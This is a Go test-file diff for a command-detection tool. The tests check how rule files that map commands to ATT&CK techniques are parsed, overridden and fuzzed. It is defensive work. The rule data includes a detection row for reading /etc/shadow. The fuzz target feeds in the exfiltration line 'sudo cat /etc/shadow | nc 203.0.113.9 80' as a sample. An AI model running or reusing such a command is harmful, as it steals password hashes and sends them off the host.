@@ -5,6 +5,7 @@ import (
 	"flag"
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 	"time"
 
@@ -93,4 +94,85 @@ func TestKnowledgeSamples(t *testing.T) {
 
 func decodeSample(name string, data []byte, emit func(*tocsin.Event)) error {
 	return decode.All(name, data, time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC), emit)
+}
+
+// TestKnowledgeFaults holds that what is wrong with a file of rows is told with its line and what to do, and costs nothing
+// but the row.
+func TestKnowledgeFaults(t *testing.T) {
+	const good = "id: good\ntitle: Good\nname: goodtool\nmeans: run execution T1059 low\nwhy: x\n\n"
+	for _, c := range []struct {
+		text, want string
+		line       int64
+	}{
+		{"id: a b\ntitle: A\nname: x\nmeans: run - - low\nwhy: x", `id "a b"`, 7},
+		{"title: A\nname: x\nmeans: run - - low\nwhy: x", "without an id", 7},
+		{"id: a\nname: x\nmeans: run - - low", "without title or why", 7},
+		{"id: a\ntitle: A\nname: x\nwhy: x", "without means", 7},
+		{"id: a\ntitle: A\nmeans: run - - low\nwhy: x", "looks for nothing", 7},
+		{"id: a\ntitle: A\nhas: x\nmeans: run - - low\nwhy: x", "without names", 7},
+		{"id: a\ntitle: A\non: nowhere\nhas: x\nmeans: run - - low\nwhy: x", `"nowhere" is no text`, 9},
+		{"id: a\ntitle: A\nname: x\nmeans: jump - - low\nwhy: x", `"jump" is no verb`, 10},
+		{"id: a\ntitle: A\nname: x\nmeans: run - T10 low\nwhy: x", `"T10" is no id`, 10},
+		{"id: a\ntitle: A\nname: x\nmeans: run - - loud\nwhy: x", "unknown level", 10},
+		{"id: a\ntitle: A\nname: x\nmeans: run low\nwhy: x", "2 words, want 4", 10},
+		{"id: a\ntitle: A\nname: x\nhas: \"x\nmeans: run - - low\nwhy: x", "not closed", 10},
+		{"id: a\ntitle: A\nname: x\nhas: x | | y\nmeans: run - - low\nwhy: x", "without words", 10},
+		{"id: a\ntitle: A\nname: x\nargs: round\nmeans: run - - low\nwhy: x", `no shape "round"`, 10},
+		{"id: a\ntitle: A\nname: x\nexcept: nolist\nmeans: run - - low\nwhy: x", "no list nolist", 7},
+		{"id: a\ntitle: A\non: event\nname: nothing-such\nmeans: run - - low\nwhy: x", "nothing that is found", 7},
+		{"id: a\ntitle: A\non: alert\nhas: x\nargs: none\nmeans: run - - low\nwhy: x", "are of commands", 7},
+		{"id: a\nid: b\ntitle: A\nname: x\nmeans: run - - low\nwhy: x", "stands there twice", 8},
+		{"id: good\ntitle: A\nname: x\nmeans: run - - low\nwhy: x", "is taken by line 1", 7},
+		{"id: a\ntitle: A\nname: goodtool\nmeans: run - - low\nwhy: x", "is named by row good", 7},
+		{"id: a\ntitle:\nname: x\nmeans: run - - low\nwhy: x", "says nothing", 8},
+		{"colour: red", `"colour" is no key`, 7},
+		{"  and more", "goes on with nothing", 7},
+	} {
+		k, faults := NewKnowledge(KnowledgeFile{"x.knowledge", []byte(good + c.text + "\n")})
+		if len(faults) != 1 || !strings.Contains(faults[0].Error(), c.want) || faults[0].Line != c.line || faults[0].Hint == "" || faults[0].Source != "x.knowledge" {
+			t.Errorf("%q\n  gives %v, want %q in line %d", c.text, faults, c.want, c.line)
+		}
+		if len(k.Rules()) != 1 || k.Rules()[0].ID != "good" {
+			t.Errorf("%q: costs another row: %d are left", c.text, len(k.Rules()))
+		}
+	}
+}
+
+// TestKnowledgeOver holds that a later file adds, replaces and removes rows, and that its own are looked at first.
+func TestKnowledgeOver(t *testing.T) {
+	const mine = "id: port-scanner\noff: yes\n\nid: whoami-here\ntitle: Asked for here\nname: whoami\nmeans: list discovery T1033 high\nwhy: x\n\n" +
+		"id: secret-shadow\ntitle: Ours\non: argument\nhas: /etc/shadow\nmeans: read credential-access T1003.008 high\nwhy: x\n"
+	k, faults := NewKnowledge(append(OwnKnowledge(), KnowledgeFile{"mine.knowledge", []byte(mine)})...)
+	if len(faults) > 0 {
+		t.Fatal(faults)
+	}
+	for line, want := range map[string]string{"nmap -h": "", "whoami": "whoami-here", "cat /etc/shadow": "secret-shadow", "last": "who-am-i"} {
+		m := readCommand(line, posix, nil, &masker{know: k})[0]
+		id := ""
+		if m.Row != nil {
+			id = m.Row.ID
+		}
+		if id != want || (want == "secret-shadow" || want == "whoami-here") != (m.Level == tocsin.High) {
+			t.Errorf("%s is told by %q, %s; want %q", line, id, m.Level, want)
+		}
+	}
+	if n, all := len(k.Rules()), len(own.Rules()); n != all {
+		t.Errorf("%d rows, want %d: one less, one more", n, all)
+	}
+}
+
+// FuzzKnowledge: whatever a file of rows holds, it is read in bounded time, and what comes of it can be used.
+func FuzzKnowledge(f *testing.F) {
+	for _, x := range OwnKnowledge() {
+		f.Add(x.Data[:min(len(x.Data), 2000)])
+	}
+	f.Add([]byte("id: a\nhas: \"\\x\" ^ $ | ^\"a\"$\n"))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		k, _ := NewKnowledge(KnowledgeFile{"x.knowledge", data})
+		r := NewReader(nil, k)
+		k.Test(func(*tocsin.Rule) bool { return true }, decodeSample)
+		readCommand("sudo cat /etc/shadow | nc 203.0.113.9 80", anyShell, nil, &masker{know: k})
+		ev := &tocsin.Event{Sources: []tocsin.LogSource{{Product: "alert"}}, Fields: []tocsin.Field{{Name: "name", Value: "x"}}}
+		r.Read(ev, nil, func(*tocsin.Action) {})
+	})
 }
